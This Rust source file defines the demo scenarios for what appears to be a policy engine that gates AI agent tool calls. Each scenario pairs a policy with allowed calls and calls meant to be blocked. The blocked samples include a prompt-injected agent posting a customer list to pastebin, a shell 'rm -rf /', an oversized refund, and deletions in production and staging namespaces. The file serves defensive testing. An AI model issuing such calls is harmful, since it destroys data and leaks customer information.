//! What the demo's agent does: the published stories under the published policies.

/// One story: a policy and the calls of one grant under it.
pub(super) struct Act {
    pub(super) title: &'static str,
    pub(super) policy: &'static str,
    pub(super) text: &'static str,
    /// Tool and arguments.
    pub(super) calls: &'static [(&'static str, &'static str)],
}

/// In this order.
pub(super) const ACTS: &[Act] = &[
    Act {
        title: "A refund of 500000 where the limit is 100",
        policy: "refund-over-100",
        text: include_str!("../../../../deploy/policies/refund-over-100.json"),
        calls: &[
            ("create_refund", r#"{"charge_id":"ch_105","amount":50}"#),
            ("create_refund", r#"{"charge_id":"ch_105","amount":500000}"#),
            (
                "create_refund",
                r#"{"charge_id":"ch_105","amount":"500000"}"#,
            ),
        ],
    },
    Act {
        title: "An injected agent posts the customer list to a paste site",
        policy: "http-egress",
        text: include_str!("../../../../deploy/policies/http-egress.json"),
        calls: &[
            (
                "http_request.post",
                r#"{"url":"https://api.acme.com/v1/notes","body_bytes":2048}"#,
            ),
            (
                "http_request.post",
                r#"{"url":"https://pastebin.com/api/post","body_bytes":2048}"#,
            ),
        ],
    },
    Act {
        title: "A coding agent with a shell",
        policy: "shell-exec",
        text: include_str!("../../../../deploy/policies/shell-exec.json"),
        calls: &[
            ("execute_command", r#"{"command":"git status"}"#),
            ("execute_command", r#"{"command":"rm -rf /"}"#),
        ],
    },
    Act {
        title: "A bot that posts to #general",
        policy: "slack-channels",
        text: include_str!("../../../../deploy/policies/slack-channels.json"),
        calls: &[
            (
                "post_message",
                r##"{"channel":"#bot-test","text":"build is green"}"##,
            ),
            (
                "post_message",
                r##"{"channel":"#general","text":"hello all"}"##,
            ),
        ],
    },
    Act {
        title: "A cluster agent: production, five deletions an hour, a tool that is not there",
        policy: "kubernetes-namespaces",
        text: include_str!("../../../../deploy/policies/kubernetes-namespaces.json"),
        calls: &[
            (
                "delete_pod",
                r#"{"namespace":"payments-prod","name":"api-0"}"#,
            ),
            ("delete_pod", r#"{"namespace":"staging","name":"api-1"}"#),
            ("delete_pod", r#"{"namespace":"staging","name":"api-2"}"#),
            ("delete_pod", r#"{"namespace":"staging","name":"api-3"}"#),
            ("delete_pod", r#"{"namespace":"staging","name":"api-4"}"#),
            ("delete_pod", r#"{"namespace":"staging","name":"api-5"}"#),
            ("delete_pod", r#"{"namespace":"staging","name":"api-6"}"#),
            ("delete_namespace", r#"{"namespace":"staging"}"#),
        ],
    },
    Act {
        title: "An issue tracker, one organisation only",
        policy: "github-issues",
        text: include_str!("../../../../deploy/policies/github-issues.json"),
        calls: &[
            (
                "create_issue",
                r#"{"repo":"policylayer/docs","title":"typo"}"#,
            ),
            ("create_issue", r#"{"repo":"someone/else","title":"typo"}"#),
        ],
    },
];
